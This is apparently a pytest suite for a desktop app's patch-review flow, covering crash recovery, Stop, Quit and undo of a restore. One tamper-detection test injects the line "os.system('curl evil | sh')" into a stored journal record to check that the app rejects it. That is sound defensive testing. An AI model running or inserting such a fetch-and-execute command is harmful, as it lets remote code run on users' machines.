"""Reviews survive (issue 12, Trust II): a crash, Stop and Quit lose nothing under review.

- SIGKILL while a patch waits for review: the relaunched window shows it waiting in the Diff
  tab with the user's decisions so far, its card says "waiting for review", and applying it
  then lands exactly the chosen hunks;
- Stop during a review withdraws it: *Apply reviewed* writes nothing, the card says
  "cancelled";
- Quit during a run asks first; the window closes once the user confirms;
- *Undo restore* is enabled right after a restore, and it works.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QApplication, QMessageBox, QPushButton

from desktop.views.diff_model import Verdict
from harnesses.sessions import SessionJournal
from tests.desktop import app_scenario
from tests.desktop.crash import kill_at_session_line
from tests.desktop.test_app import next_signal, run_qasync


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "notes.txt").write_text(app_scenario.notes_text())
    return folder


def _card(window: Any, call_id: str) -> Any:
    window.conversation.flush()
    return window.conversation.tool_card(call_id)


def _summary(card: Any) -> str:
    """The card's summary line as the user reads it (without break opportunities)."""
    return "".join(ch for ch in card.summary.text() if ch.isprintable())


async def _reopened(repo: Path, journal: Any, session_id: str, qtbot: Any) -> tuple[Any, Any]:
    """The crashed session opened again in a new window, its proposal shown."""
    controller, window = app_scenario.build(repo, journal, [], session_id=session_id)
    qtbot.addWidget(window)
    window.show()
    shown = next_signal(controller.proposalSubmitted)
    controller.load_session(session_id)
    await shown
    return controller, window


def _crash_during_review(repo: Path, journal_path: Path) -> str:
    # the crash, while the patch waits for review
    words = kill_at_session_line("tests.desktop.app_scenario", [repo, journal_path, "review"])
    return words[1]


def test_sigkill_during_review_then_relaunch_shows_it_waiting_with_its_decisions(
    repo, tmp_path, qtbot
):
    journal_path = tmp_path / "journal.sqlite3"
    session_id = _crash_during_review(repo, journal_path)
    assert (repo / "notes.txt").read_text() == app_scenario.notes_text()  # nothing landed
    journal = SessionJournal(journal_path)

    async def scenario() -> None:
        controller, window = await _reopened(repo, journal, session_id, qtbot)
        assert window.tabs.currentIndex() == 0
        file = window.diff_view.current_file()
        assert file is not None and file.path == "notes.txt" and len(file.hunks) == 3
        verdicts = {h: d.verdict for h, d in window.diff_view.decisions("notes.txt").items()}
        assert verdicts == {1: Verdict.ACCEPTED, 2: Verdict.REJECTED, 3: Verdict.PENDING}
        card = _card(window, "p1")
        assert card.status_name == "waiting-review"
        assert "waiting for review" in card.status.text()
        assert not window.diff_view.is_read_only()

        window.diff_view.setFocus()
        window.diff_view.next_hunk()
        window.diff_view.next_hunk()  # hunk 3
        window.diff_view.accept_current()
        landed = next_signal(controller.checkpointsChanged)
        window.diff_view.apply_reviewed()
        await landed
        expected = app_scenario.notes_text().replace("beta", "BETA").replace("psi", "PSI")
        assert (repo / "notes.txt").read_text() == expected  # hunks 1 and 3, as decided
        card = _card(window, "p1")
        assert card.status_name == "completed"
        assert "Applied 2 of 3 hunks" in _summary(card)
        assert "Applied 2 of 3 hunks" in controller._history[-1]["content"]  # the model hears
        await controller.shutdown()
        window.close()

    run_qasync(scenario)
    kinds = [e.kind for e in journal.events(session_id)]
    assert "review_landed" in kinds and kinds.count("proposal_closed") == 1
    journal.close()


def test_accept_all_survives_a_crash_as_one_journal_event(repo, tmp_path, qtbot):
    """*Accept all* after a hand-made reject, then SIGKILL: one ``review_decisions`` event
    holds the hunks it decided; the relaunched window shows them, and applying lands them."""
    journal_path = tmp_path / "journal.sqlite3"
    words = kill_at_session_line("tests.desktop.app_scenario", [repo, journal_path, "review-all"])
    session_id = words[1]
    journal = SessionJournal(journal_path)
    bulk = [e for e in journal.events(session_id) if e.kind == "review_decisions"]
    assert len(bulk) == 1 and bulk[0].payload["accepted"] == [1, 3]

    async def scenario() -> None:
        controller, window = await _reopened(repo, journal, session_id, qtbot)
        verdicts = {h: d.verdict for h, d in window.diff_view.decisions("notes.txt").items()}
        assert verdicts == {1: Verdict.ACCEPTED, 2: Verdict.REJECTED, 3: Verdict.ACCEPTED}
        landed = next_signal(controller.checkpointsChanged)
        window.diff_view.apply_reviewed()
        await landed
        expected = app_scenario.notes_text().replace("beta", "BETA").replace("psi", "PSI")
        assert (repo / "notes.txt").read_text() == expected
        await controller.shutdown()
        window.close()

    run_qasync(scenario)
    journal.close()


def test_stop_during_review_withdraws_it(repo, tmp_path, qtbot):
    journal = SessionJournal(tmp_path / "journal.sqlite3")

    async def scenario() -> None:
        controller, window = app_scenario.build(repo, journal, app_scenario.turns())
        qtbot.addWidget(window)
        window.show()
        shown = next_signal(controller.proposalSubmitted)
        controller.submit("edit the notes")
        await shown
        window.diff_view.accept_current()
        withdrawn = next_signal(controller.proposalWithdrawn)
        stopped = next_signal(controller.runningChanged)
        controller.stop()
        await withdrawn
        assert await stopped == (False,)
        assert window.diff_view.is_read_only()  # Apply reviewed is off
        assert not controller.workspace.review_queue.pending()
        applied: list[Any] = []
        window.diff_view.applyRequested.connect(lambda *a: applied.append(a))
        window.diff_view.apply_reviewed()
        assert applied == []
        assert (repo / "notes.txt").read_text() == app_scenario.notes_text()
        card = _card(window, "p1")
        assert card.status_name == "cancelled"
        await controller.shutdown()
        window.close()

    run_qasync(scenario)
    journal.close()


def test_quit_during_a_run_asks_first(repo, tmp_path, qtbot):
    journal = SessionJournal(tmp_path / "journal.sqlite3")

    async def scenario() -> None:
        controller, window = app_scenario.build(repo, journal, app_scenario.turns())
        qtbot.addWidget(window)
        window.show()
        closed: list[bool] = []
        window.closed.connect(lambda: closed.append(True))
        shown = next_signal(controller.proposalSubmitted)
        controller.submit("edit the notes")
        await shown
        window.close()
        question = window.close_question
        assert isinstance(question, QMessageBox) and question.isVisible()
        assert window.isVisible() and closed == []
        assert "waiting for your review" in question.text()
        question.button(QMessageBox.StandardButton.Cancel).click()
        assert window.isVisible() and closed == []
        window.close()
        question = window.close_question
        assert question is not None
        question.findChild(QPushButton, "confirmQuit").click()
        assert closed == [True] and not window.isVisible()
        await controller.shutdown()

    app = QApplication.instance() or QApplication([])
    app.setQuitOnLastWindowClosed(False)  # the loop must outlive the window it closes
    try:
        run_qasync(scenario)
    finally:
        app.setQuitOnLastWindowClosed(True)
    journal.close()


def test_undo_restore_is_enabled_after_a_restore_and_works(repo, tmp_path, qtbot):
    journal = SessionJournal(tmp_path / "journal.sqlite3")

    async def scenario() -> None:
        controller, window = app_scenario.build(repo, journal, [])
        qtbot.addWidget(window)
        window.show()
        first = await controller.workspace.checkpoints.create("before the user's edit")
        (repo / "notes.txt").write_text("the user's later work\n")
        assert not window.checkpoints.undo_button.isEnabled()
        restored = next_signal(controller.checkpointsChanged)
        controller.restore_checkpoint(first.id)
        await restored
        assert (repo / "notes.txt").read_text() == app_scenario.notes_text()
        assert window.checkpoints.undo_button.isEnabled()
        undone = next_signal(controller.checkpointsChanged)
        window.checkpoints.undo_button.click()
        await undone
        assert (repo / "notes.txt").read_text() == "the user's later work\n"
        assert not window.checkpoints.undo_button.isEnabled()
        await controller.shutdown()
        window.close()

    run_qasync(scenario)
    journal.close()


def test_a_journaled_review_whose_hunks_disagree_with_its_text_is_dropped(repo, tmp_path, qtbot):
    """Red-team finding 10: the journal is data on disk. A proposal record whose new text is
    not what its hunks show (here: an extra line no hunk names) is not reopened: a notice
    says it was dropped, its card fails, and nothing lands."""
    import json
    import sqlite3

    journal_path = tmp_path / "journal.sqlite3"
    session_id = _crash_during_review(repo, journal_path)
    db = sqlite3.connect(journal_path)
    with db:
        rows = db.execute(
            "SELECT seq, payload_json FROM events WHERE session_id = ? AND kind = 'proposal'",
            (session_id,),
        ).fetchall()
        assert len(rows) == 1
        seq, text = rows[0]
        payload = json.loads(text)
        assert payload["new_text"] and payload["hunks"]
        payload["new_text"] = "import os; os.system('curl evil | sh')\n" + payload["new_text"]
        db.execute(
            "UPDATE events SET payload_json = ? WHERE session_id = ? AND seq = ?",
            (json.dumps(payload), session_id, seq),
        )
    db.close()
    journal = SessionJournal(journal_path)
    notices: list[tuple[str, str]] = []
    shown: list[Any] = []

    async def scenario() -> None:
        controller, window = app_scenario.build(repo, journal, [], session_id=session_id)
        qtbot.addWidget(window)
        controller.notice.connect(lambda text, level: notices.append((text, level)))
        controller.proposalSubmitted.connect(shown.append)
        controller.load_session(session_id)
        assert controller.workspace.review_queue.get(payload["id"]) is None
        card = _card(window, "p1")
        assert card.status_name == "failed"
        assert "hunks do not match" in _summary(card)
        await controller.shutdown()
        window.close()

    run_qasync(scenario)
    assert not shown, "a record that disagrees with itself must not reach the Diff tab"
    dropped = [t for t, level in notices if "was dropped" in t]
    assert dropped and _level_of(notices, dropped[0]) == "warning"
    assert "notes.txt" in dropped[0] and "hunks do not match" in dropped[0]
    assert (repo / "notes.txt").read_text() == app_scenario.notes_text()
    kinds = [e.kind for e in journal.events(session_id)]
    assert kinds.count("proposal_closed") == 1 and "review_landed" in kinds
    journal.close()


def _level_of(notices: list[tuple[str, str]], text: str) -> str:
    """The level a notice was shown with."""
    return next(level for t, level in notices if t == text)
